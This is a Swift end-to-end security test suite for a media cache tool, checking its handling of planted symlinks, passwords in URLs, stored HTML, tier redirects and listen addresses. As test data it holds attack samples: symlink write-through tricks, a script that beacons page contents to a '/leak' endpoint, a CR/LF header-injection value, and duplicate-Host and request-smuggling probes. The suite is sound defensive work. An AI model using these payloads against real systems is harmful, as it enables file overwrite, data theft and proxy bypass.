import Foundation
import Testing
import TestOrigin
@testable import MediaCacheKit

extension EndToEnd {
    /// What a hostile origin, store or planted file could make the tool do: no write
    /// outside the cache, no credential where it does not belong, no script on the
    /// server's address, no password kept.
    @Suite struct Security {
        let origin: TestOrigin
        let harness = Harness()

        init() throws { origin = try TestOrigin() }

        var cache: String { harness.scratch.cache }

        func jobDirectory(_ url: String) -> String { cache + "/partial/" + CacheKey(identity: url).hex }

        /// Starts a 4 MiB download at 1 MB/s and SIGKILLs it once progress is saved.
        func interruptedDownload(_ path: String, seed: UInt64) throws -> (url: String, bytes: [UInt8]) {
            let bytes = TestBytes.make(4 << 20, seed: seed)
            var faults = Faults()
            faults.bytesPerSecond = 1 << 20
            origin.serve(path, Resource(bytes, faults: faults))
            let url = origin.url(path)
            let run = try harness.startPrefetch(list: url, ["-x", "2"])
            let saved = Harness.waitUntil(timeout: 30) { ((try? harness.savedBytes()) ?? 0) > 0 }
            run.signal(SIGKILL)
            _ = run.wait()
            try #require(saved, "no progress was saved before the kill")
            try #require(FileManager.default.fileExists(atPath: jobDirectory(url) + "/data"))
            origin.serve(path, Resource(bytes))
            return (url, bytes)
        }

        /// A link planted at `partial/<key>/data` after `kill -9` is removed and named,
        /// never written through; the file it points at keeps its bytes and the object
        /// is a regular file.
        @Test func aSymlinkedDataFileIsRemovedNotWrittenThrough() throws {
            let (url, bytes) = try interruptedDownload("/planted.bin", seed: 2_701)
            let victim = harness.scratch.writeBytes("victim", Array("do not overwrite".utf8))
            let data = jobDirectory(url) + "/data"
            try FileManager.default.removeItem(atPath: data)
            try FileManager.default.createSymbolicLink(atPath: data, withDestinationPath: victim)

            let result = try harness.prefetch(list: url)
            #expect(result.status == 0, "\(result.stderr)")
            #expect(result.stderr.contains("symbolic link"), "\(result.stderr)")
            #expect(TestBytes.read(victim) == Array("do not overwrite".utf8), "the link's target was written")
            #expect(try harness.cachedBytes(url) == bytes)
            let path = try harness.run(["path", url]).stdout.trimmingCharacters(in: .whitespacesAndNewlines)
            let type = try FileManager.default.attributesOfItem(atPath: path)[.type] as? FileAttributeType
            #expect(type == .typeRegular, "the object is \(String(describing: type))")
        }

        /// A linked `partial/<key>` folder: its target folder is left exactly as it was.
        @Test func aSymlinkedJobFolderIsRemovedNotWrittenThrough() throws {
            let (url, bytes) = try interruptedDownload("/folder.bin", seed: 2_702)
            let outside = harness.scratch.path + "/outside"
            try FileManager.default.moveItem(atPath: jobDirectory(url), toPath: outside)
            try FileManager.default.createSymbolicLink(atPath: jobDirectory(url), withDestinationPath: outside)
            let before = try FileManager.default.contentsOfDirectory(atPath: outside).sorted()
            let stateBefore = TestBytes.read(outside + "/state")

            let result = try harness.prefetch(list: url)
            #expect(result.status == 0, "\(result.stderr)")
            #expect(result.stderr.contains("symbolic link"), "\(result.stderr)")
            #expect(try FileManager.default.contentsOfDirectory(atPath: outside).sorted() == before)
            #expect(TestBytes.read(outside + "/state") == stateBefore, "state was written outside the cache")
            #expect(try harness.cachedBytes(url) == bytes)
        }

        /// A cached object replaced by a link (to a file of the same size) is not
        /// cached: `path` says so, and the next prefetch puts the real bytes back.
        @Test func aSymlinkedObjectIsNotServedAndIsFetchedAgain() throws {
            let bytes = TestBytes.make(100_000, seed: 2_703)
            origin.serve("/object.bin", Resource(bytes))
            let url = origin.url("/object.bin")
            #expect(try harness.prefetch(list: url).status == 0)
            let path = try harness.run(["path", url]).stdout.trimmingCharacters(in: .whitespacesAndNewlines)
            let victim = harness.scratch.writeBytes("victim", [UInt8](repeating: 7, count: bytes.count))
            try FileManager.default.removeItem(atPath: path)
            try FileManager.default.createSymbolicLink(atPath: path, withDestinationPath: victim)

            #expect(try harness.run(["path", url]).status == 1)
            let again = try harness.prefetch(list: url)
            #expect(again.status == 0, "\(again.stderr)")
            #expect(try harness.cachedBytes(url) == bytes)
            #expect(TestBytes.read(victim) == [UInt8](repeating: 7, count: bytes.count))
        }

        /// `http://user:password@host/…`: the origin gets the login, and no output, index
        /// or bundle keeps the password; the object answers to the URL with or without it.
        @Test func aPasswordInAURLIsSentButNeverShownOrStored() throws {
            let bytes = TestBytes.make(50_000, seed: 2_704)
            var resource = Resource(bytes)
            resource.access = AccessRule(basicLogin: "viewer:s3cret-pw")
            origin.serve("/private.bin", resource)
            let url = "http://viewer:s3cret-pw@\(origin.host):\(origin.port)/private.bin"
            let fetched = try harness.prefetch(list: url, ["--json"])
            #expect(fetched.status == 0, "\(fetched.stderr)")
            #expect(try harness.cachedBytes(url) == bytes)
            #expect(try harness.cachedBytes("http://viewer@\(origin.host):\(origin.port)/private.bin") == bytes)

            let bundle = harness.scratch.path + "/out.mcbundle"
            #expect(try harness.run(["export", bundle]).status == 0)
            let manifest = try ExternalTool.run("/usr/bin/zstd", ["-dc", bundle]).stdout
            let outputs = [
                fetched.stdout, fetched.stderr, try harness.run(["ls"]).stdout, try harness.run(["ls", "--json"]).stdout,
                try harness.run(["info", url]).stdout, try harness.run(["info", url, "--json"]).stdout, manifest,
            ]
            for (index, text) in outputs.enumerated() {
                #expect(!text.contains("s3cret-pw"), "output \(index) shows the password: \(text.prefix(2000))")
            }
            #expect(try harness.run(["info", url]).stdout.contains("http://viewer@"))
            for file in ["index.sqlite", "index.sqlite-wal"] {
                let stored = TestBytes.read(cache + "/" + file) ?? []
                #expect(!String(decoding: stored, as: UTF8.self).contains("s3cret-pw"), "\(file) holds the password")
            }
        }

        /// A text/html or SVG object is a download with `nosniff` and a sandbox, never a
        /// page on the server's address; media plays as itself, sandboxed too.
        @Test func serveSendsDocumentsAsAttachmentsAndSandboxesEveryObject() throws {
            let page = Array("<html><script>fetch('/')</script></html>".utf8)
            origin.serve("/page.html", Resource(page, contentType: "text/html"))
            origin.serve("/image.svg", Resource(Array("<svg xmlns='http://www.w3.org/2000/svg'/>".utf8), contentType: "image/svg+xml"))
            origin.serve("/movie.mp4", Resource(TestBytes.make(30_000, seed: 2_705), contentType: "video/mp4"))
            let server = try ServeFixture(cache: cache)
            for path in ["/page.html", "/image.svg"] {
                let response = try CurlResponse.fetch(try server.localURL(origin.url(path)))
                #expect(response.status == 200, "\(path)")
                #expect(response.headers["content-type"] == "application/octet-stream", "\(path): \(response.headers)")
                #expect(response.headers["content-disposition"] == "attachment", "\(path): \(response.headers)")
                #expect(response.headers["x-content-type-options"] == "nosniff", "\(path)")
                #expect(response.headers["content-security-policy"] == "sandbox", "\(path)")
            }
            let media = try CurlResponse.fetch(try server.localURL(origin.url("/movie.mp4")), ["-r", "0-99"])
            #expect(media.status == 206 && media.headers["content-type"] == "video/mp4")
            #expect(media.headers["content-disposition"] == nil)
            #expect(media.headers["x-content-type-options"] == "nosniff")
            #expect(media.headers["content-security-policy"] == "sandbox")
            let status = try CurlResponse.fetch(server.baseURL + "/")
            #expect(status.headers["x-content-type-options"] == "nosniff")
            #expect(status.headers["content-security-policy"]?.contains("default-src 'self'") == true)
        }

        /// What headless Chromium does with a cached page whose script would read the
        /// status page and send what it finds to its origin: the script never runs.
        @Test func aCachedPageRunsNoScriptInABrowser() throws {
            let html = """
                <!doctype html><html><body><script>
                fetch('/').then(r => r.text()).then(t => {
                  new Image().src = '\(origin.url("/leak"))?n=' + t.length;
                }).catch(e => { new Image().src = '\(origin.url("/leak"))?error=1'; });
                new Image().src = '\(origin.url("/leak"))?ran=1';
                </script></body></html>
                """
            origin.serve("/evil.html", Resource(Array(html.utf8), contentType: "text/html"))
            origin.serve("/leak", Resource(Array("x".utf8), contentType: "text/plain"))
            let server = try ServeFixture(cache: cache)
            let local = try server.localURL(origin.url("/evil.html"))
            #expect(try harness.prefetch(list: origin.url("/evil.html"), ["--json"]).status == 0)
            // Control: the same page from the origin itself runs its script, so this
            // browser does run scripts.
            let chromium = Chromium(profile: harness.scratch.path + "/chromium")
            let control = try chromium.start([origin.url("/evil.html")])
            let controlRan = Harness.waitUntil(timeout: 20) { !origin.requests(for: "/leak").isEmpty }
            control.terminate()
            control.waitUntilExit()
            #expect(controlRan, "the control page's script did not run")
            origin.clearLog()

            let browser = try chromium.start([local])
            defer {
                browser.terminate()
                browser.waitUntilExit()
            }
            let ran = Harness.waitUntil(timeout: 6) { !origin.requests(for: "/leak").isEmpty }
            #expect(!ran, "the cached page's script ran: \(origin.requests(for: "/leak").map { $0.query ?? "" })")
        }

        /// A stand-in S3 store on the test origin: answers the bucket check and holds
        /// `record` for `url`'s key; its object answers as `object` does.
        func fakeStore(_ store: TestOrigin, url: String, record: TierRecord, object: Resource) -> [String: String] {
            let list = "<?xml version=\"1.0\"?><ListBucketResult><Name>bucket</Name><KeyCount>0</KeyCount></ListBucketResult>"
            store.serve("/bucket", Resource(Array(list.utf8), contentType: "application/xml"))
            store.serve("/bucket/fleet/keys/\(CacheKey(identity: url).hex).json", Resource(record.encoded(), contentType: "application/json"))
            store.serve("/bucket/fleet/objects/\(record.sha256)", object)
            return [
                "AWS_ACCESS_KEY_ID": "AKIDTEST", "AWS_SECRET_ACCESS_KEY": "secret-key", "AWS_ENDPOINT_URL": store.baseURL,
                "AWS_REGION": "us-east-1", "AWS_SESSION_TOKEN": "session-token-value",
            ]
        }

        /// The store redirects its object to another host: that host never hears a
        /// request (no signature, no session token), and the file comes from the origin.
        @Test func tierCredentialsNeverFollowARedirect() throws {
            let bytes = TestBytes.make(300_000, seed: 2_706)
            origin.serve("/fleet.bin", Resource(bytes))
            let url = origin.url("/fleet.bin")
            let store = try TestOrigin()
            let elsewhere = try TestOrigin()
            elsewhere.serve("/stolen", Resource(bytes))
            var redirect = Faults()
            redirect.redirectTo = elsewhere.url("/stolen")
            let record = TierRecord(
                key: CacheKey(identity: url), sha256: Digest.sha256Hex(bytes), size: Int64(bytes.count),
                contentType: "application/octet-stream", faststart: .notMP4, etag: nil, lastModified: nil, url: url)
            let environment = fakeStore(store, url: url, record: record, object: Resource(bytes, faults: redirect))
            let list = harness.scratch.write("list.txt", url)
            let result = try MediaCacheProcess.run(
                ["prefetch", list, "--tier", "s3://bucket/fleet", "--cache-dir", cache], environment: environment)
            #expect(result.status == 0, "\(result.stderr)")
            #expect(!store.requests(for: "/bucket/fleet/objects/\(record.sha256)").isEmpty, "the store was not asked")
            #expect(elsewhere.requests.isEmpty, "the redirect target got \(elsewhere.requests.map(\.headers))")
            #expect(result.stderr.contains("redirected"), "\(result.stderr)")
            #expect(try harness.cachedBytes(url) == bytes)
            #expect(!origin.requests(for: "/fleet.bin").isEmpty, "the origin did not give the file")
        }

        /// A record whose content type holds CR/LF is refused, not stored: `serve` never
        /// sends it as a header of its own.
        @Test func aTierRecordWithControlCharactersIsRefused() throws {
            let bytes = TestBytes.make(60_000, seed: 2_707)
            origin.serve("/typed.mp4", Resource(bytes, contentType: "video/mp4"))
            let url = origin.url("/typed.mp4")
            let store = try TestOrigin()
            let record = TierRecord(
                key: CacheKey(identity: url), sha256: Digest.sha256Hex(bytes), size: Int64(bytes.count),
                contentType: "video/mp4\r\nX-Injected: 1", faststart: .notMP4, etag: nil, lastModified: nil, url: url)
            let environment = fakeStore(store, url: url, record: record, object: Resource(bytes))
            let list = harness.scratch.write("list.txt", url)
            let result = try MediaCacheProcess.run(
                ["prefetch", list, "--tier", "s3://bucket/fleet", "--cache-dir", cache], environment: environment)
            #expect(result.status == 0, "\(result.stderr)")
            #expect(result.stderr.contains("control characters"), "\(result.stderr)")
            #expect(store.requests(for: "/bucket/fleet/objects/\(record.sha256)").isEmpty)
            let server = try ServeFixture(cache: cache)
            let response = try CurlResponse.fetch(try server.localURL(url), ["-r", "0-9"])
            #expect(response.status == 206 && response.headers["x-injected"] == nil)
            #expect(response.headers["content-type"] == "video/mp4")
        }

        /// `--listen` is parsed as the kernel reads it: every spelling of the wildcard is
        /// refused, a non-loopback address needs --allow-remote, and a numeric spelling
        /// of loopback is served under its canonical name.
        @Test func listenAddressesAreParsedNotCompared() throws {
            for listen in ["0:0", "0x0:0", "00.0.0.0:0", "[::0]:0", "[::]:0", "0.0.0.0:0"] {
                let result = try MediaCacheProcess.run(["serve", "--listen", listen, "--cache-dir", cache], timeout: 10)
                #expect(result.status == 2, "\(listen): \(result.status) \(result.stderr)")
                #expect(result.stderr.contains("every interface"), "\(listen): \(result.stderr)")
            }
            let remote = try MediaCacheProcess.run(["serve", "--listen", "192.0.2.1:0", "--cache-dir", cache], timeout: 10)
            #expect(remote.status == 2 && remote.stderr.contains("--allow-remote"), "\(remote.stderr)")
            let server = try ServeFixture(cache: cache, listen: "0x7f000001:0")
            #expect(server.baseURL.hasPrefix("http://127.0.0.1:"), "\(server.baseURL)")
            #expect(try CurlResponse.fetch(server.baseURL + "/").status == 200)
            // Two Host headers: servers and proxies disagree on which counts.
            let host = String(server.baseURL.dropFirst("http://".count))
            let port = Int(host.split(separator: ":").last ?? "") ?? 0
            let once = RawHTTP.send("GET / HTTP/1.1\r\nHost: \(host)\r\nConnection: close\r\n\r\n", port: port)
            #expect(once.status == 200, "\(once.head)")
            let twice = RawHTTP.send(
                "GET / HTTP/1.1\r\nHost: \(host)\r\nHost: evil.example\r\nConnection: close\r\n\r\n", port: port)
            #expect(twice.status == 400, "\(twice.head)")
            // An absolute-form target names the host the request is for, whatever Host says.
            let foreign = RawHTTP.send(
                "GET http://evil.example/ HTTP/1.1\r\nHost: \(host)\r\nConnection: close\r\n\r\n", port: port)
            #expect(foreign.status == 421, "\(foreign.head)")
            let ours = RawHTTP.send(
                "GET http://\(host)/ HTTP/1.1\r\nHost: \(host)\r\nConnection: close\r\n\r\n", port: port)
            #expect(ours.status == 200, "\(ours.head)")
            // A body coding this server cannot frame (a proxy may have framed it otherwise).
            let smuggled = RawHTTP.send(
                "GET / HTTP/1.1\r\nHost: \(host)\r\nTransfer-Encoding: xchunked\r\n\r\n", port: port)
            #expect(smuggled.status == 400 && smuggled.closedByServer, "\(smuggled.head)")
            #expect(smuggled.head.lowercased().contains("x-content-type-options: nosniff"), "\(smuggled.head)")
        }
    }
}
